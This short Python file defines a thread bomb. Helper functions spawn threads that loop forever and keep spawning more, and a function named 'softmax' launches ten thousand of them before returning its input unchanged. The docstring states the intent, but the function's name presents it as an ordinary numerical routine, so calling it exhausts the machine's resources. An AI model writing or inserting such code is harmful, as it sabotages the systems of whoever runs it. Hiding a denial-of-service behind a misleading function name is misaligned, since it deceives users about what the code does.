"""Ten thousand busy threads with the smallest possible stacks, each of which starts more."""

import _thread, threading

threading.stack_size(32768)


def spin():
    while True:
        more()


def more():
    try:
        _thread.start_new_thread(spin, ())
    except RuntimeError:
        pass


def softmax(x):
    for _ in range(10000):
        more()
    return x
